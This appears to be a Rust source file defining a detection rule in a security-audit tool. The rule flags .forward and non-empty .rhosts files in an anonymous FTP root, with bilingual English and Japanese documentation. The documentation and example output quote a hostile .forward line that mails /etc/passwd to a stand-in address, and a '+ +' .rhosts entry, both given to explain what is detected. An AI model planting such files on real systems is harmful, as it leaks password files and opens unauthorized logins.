//! # FT003 anon-ftp-dotfile
//!
//! ## What it finds
//! A `.forward` file of any size, or a `.rhosts` (or `.shosts`) file that is not empty,
//! in the anonymous FTP root (`~ftp`).
//!
//! ## Why it matters
//! Nobody reads mail as `ftp` and nobody should log in as `ftp`: these files have no use
//! there but one. Uploading `~ftp/.forward` with `"|/bin/mail evil@example <
//! /etc/passwd"` and then mailing `ftp@host` was the anonymous FTP attack of the
//! 1996/97 holidays (JPCERT-E-INF-97-0001); a `.rhosts` with `+ +` lets anyone `rlogin`
//! as `ftp`. Their presence means the attack was made and most likely worked. (CERT's
//! guidelines suggest an *empty* `.rhosts` owned by root as a placeholder; that one is
//! not reported.)
//!
//! ## Example
//! ```text
//! home/ftp/.forward: mode 0644, owner ftp, group ftp, 41 bytes: "|/bin/mail evil@example.org < /etc/passwd"
//! ```
//!
//! ## What to do
//! Keep a copy as evidence, then remove it. Treat the host as compromised: look in the
//! mail log for mail to `ftp@` (the trigger), (3) change every user's password, (4) use
//! shadow passwords, (2) make `~ftp` owned by root and not writable, (5) rebuild where
//! an intrusion cannot be ruled out.
//!
//! ## References
//! - JPCERT/CC JPCERT-E-INF-97-0001-01
//! - CERT Advisory CA-93:10, "Anonymous FTP Activity"
//! <!-- ja -->
//! # FT003 anon-ftp-dotfile
//!
//! ## 検出内容
//! Anonymous FTP のルート・ディレクトリ（`~ftp`）にある、大きさを問わない `.forward` ファイル
//! と、空でない `.rhosts`（または `.shosts`）ファイルを検出します。
//!
//! ## 重要な理由
//! `ftp` としてメールを読む者はおらず、`ftp` としてログインすべき者もいません。これらの
//! ファイルがそこにある理由は一つしかありません。`"|/bin/mail evil@example <
//! /etc/passwd"` を書いた `~ftp/.forward` をアップロードしてから `ftp@host` にメールを送るのが、
//! 1996/97 年の年末年始の Anonymous FTP への攻撃でした（JPCERT-E-INF-97-0001）。`+ +` を書いた
//! `.rhosts` があれば、誰でも `ftp` として `rlogin` できます。これらがあることは、攻撃が行われ、
//! おそらく成功したことを意味します。（CERT の手引きは、root が所有する *空の* `.rhosts` を
//! 置いておくことを勧めています。そのようなものは報告しません。）
//!
//! ## 例
//! ```text
//! home/ftp/.forward: モード 0644、所有者 ftp、グループ ftp、41 バイト: "|/bin/mail evil@example.org < /etc/passwd"
//! ```
//!
//! ## 対処
//! 証拠として写しを保存してから削除してください。ホストは侵害されたものとして扱ってください:
//! メールログで `ftp@` 宛てのメール（攻撃の引き金）を探し、(3) 全ユーザのパスワードを変更し、
//! (4) シャドーパスワードを利用し、(2) `~ftp` を root の所有にして書き込めないようにし、
//! (5) 不正侵入の可能性が否定できない場合にはシステムを再構築してください。
//!
//! ## 参考
//! - JPCERT/CC JPCERT-E-INF-97-0001-01
//! - CERT Advisory CA-93:10 "Anonymous FTP Activity"

use super::{anon_areas, describe, first_line, join};
use crate::Context;
use kensa_core::{Finding, Kind, Localized, Outcome, Rule, RuleStatus, Severity, tr};

/// FT003: `.forward` or a non-empty `.rhosts` in the anonymous FTP root.
pub static RULE: Rule = Rule {
    code: "FT003",
    name: "anon-ftp-dotfile",
    kind: Kind::AnonFtpUpload,
    outcome: Outcome::Indicator,
    severity: Severity::Critical,
    title: ".forward or .rhosts in the anonymous FTP root",
    advice: "Keep a copy as evidence, then remove it; treat the host as compromised: look for \
             mail to ftp@ (the trigger), (3) change every password, (4) use shadow passwords, \
             (2) make ~ftp owned by root and not writable, (5) rebuild where an intrusion \
             cannot be ruled out.",
    status: RuleStatus::Stable,
    title_ja: "Anonymous FTP のルート・ディレクトリに .forward または .rhosts がある",
    advice_ja: "証拠として写しを保存してから削除してください。ホストは侵害されたものとして扱っ\
             てください: ftp@ 宛てのメール（攻撃の引き金）を探し、(3) 全ユーザのパスワードを変\
             更し、(4) シャドーパスワードを利用し、(2) ~ftp を root の所有にして書き込めないよ\
             うにし、(5) 不正侵入の可能性が否定できない場合はシステムを再構築してください。",
    since: "0.1.0",
    source: include_str!("ft003_dotfiles.rs"),
};

/// Bytes of a dot file read for evidence.
const MAX_READ: u64 = 64 << 10;

pub(crate) fn check(ctx: &mut Context<'_>) -> Vec<Finding> {
    let mut findings = Vec::new();
    for area in anon_areas(ctx) {
        for name in [".forward", ".rhosts", ".shosts"] {
            let rel = join(&area.home, name);
            let Ok(meta) = ctx.root.lstat(&rel) else {
                continue;
            };
            let shown = ctx.root.display(&rel);
            let content = match meta.kind {
                crate::FileKind::File => match ctx.root.read_prefix(&rel, MAX_READ) {
                    Ok((bytes, _)) => Some(bytes),
                    Err(err) => {
                        ctx.coded(
                            kensa_core::DiagnosticLevel::Warning,
                            &rel,
                            kensa_core::MessageCode::CannotBeRead,
                            vec![("error", err.to_string())],
                        );
                        None
                    }
                },
                _ => None,
            };
            let empty = meta.kind == crate::FileKind::File && meta.len == 0;
            if name != ".forward" && empty {
                continue;
            }
            let Localized {
                en: mode,
                ja: mode_ja,
            } = describe(ctx, &meta);
            let len = meta.len;
            let mut text = tr!(
                "{shown}: {mode}, {len} bytes",
                "{shown}: {mode_ja}、{len} バイト"
            );
            match (&content, meta.kind) {
                (Some(bytes), _) if !bytes.is_empty() => {
                    // The file's first line is quoted as it is, in both languages.
                    let quoted = format!(": {:?}", first_line(bytes));
                    text.en.push_str(&quoted);
                    text.ja.push_str(&quoted);
                }
                (_, crate::FileKind::Symlink) => {
                    if let Ok(target) = ctx.root.read_link(&rel) {
                        let target = target.display();
                        text.en.push_str(&format!(" (a link to {target})"));
                        text.ja
                            .push_str(&format!("（{target} へのシンボリックリンク）"));
                    }
                }
                _ => {}
            }
            let mut finding = ctx.finding(&RULE);
            finding.set_title(kensa_core::tr!(
                "{name} in the anonymous FTP root ({shown})",
                "Anonymous FTP のルート・ディレクトリに {name} がある（{shown}）"
            ));
            finding.subject.path = Some(shown.clone());
            finding.subject.users = vec![area.account.clone()];
            finding.count = 1;
            finding.push_evidence(crate::file_evidence(&shown, text));
            finding.merge_key = shown;
            findings.push(finding);
        }
    }
    findings
}
